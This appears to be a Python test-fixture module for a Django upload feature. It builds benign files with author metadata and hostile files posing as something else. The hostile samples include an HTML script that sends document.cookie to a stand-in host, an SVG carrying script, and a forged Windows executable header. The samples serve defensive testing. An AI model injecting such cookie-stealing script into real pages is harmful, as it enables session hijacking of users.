"""Files an applicant might attach, built in code: honest ones that carry their author's name and
whereabouts the way phones and office software write them (`pictures`, `pdfs`, `documents`), and
hostile ones posing as something they are not."""

import io
import random
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

AUTHOR = "Amina Canary"
HTML = b"<html><body><script>fetch('https://example.org/?' + document.cookie)</script></body></html>"
PARAGRAPH = "Safe houses in three cities"
ARABIC = "ميزانية البيوت الآمنة في ثلاث مدن\nSafe houses: 3 cities, 12,500 EUR\n"


def uploaded(data: bytes, name: str = "attachment.bin", content_type: str = "application/octet-stream"):
    """What a browser sends: its name and content type are the sender's claims, nothing more."""
    return SimpleUploadedFile(name, data, content_type=content_type)


def windows_program() -> bytes:
    """The first bytes of a 32-bit Windows program: DOS stub, PE signature, COFF and optional headers."""
    data = bytearray(1024)
    data[0:2] = b"MZ"
    data[0x3C:0x40] = (0x80).to_bytes(4, "little")
    data[0x80:0x84] = b"PE\0\0"
    data[0x84:0x86] = (0x14C).to_bytes(2, "little")  # i386
    data[0x86:0x88] = (1).to_bytes(2, "little")  # one section
    data[0x94:0x96] = (0xE0).to_bytes(2, "little")  # size of the optional header
    data[0x96:0x98] = (0x102).to_bytes(2, "little")  # executable, 32-bit
    data[0x98:0x9A] = (0x10B).to_bytes(2, "little")  # PE32
    data[0x98 + 68 : 0x98 + 70] = (2).to_bytes(2, "little")  # Windows GUI subsystem
    return bytes(data)


def random_bytes() -> bytes:
    return random.Random(7).randbytes(4096)


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script><rect width='10' height='10'/></svg>"
)
HTML_PAGE = b"<!DOCTYPE html>\n" + HTML


def zipped(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data, zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def entries_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}
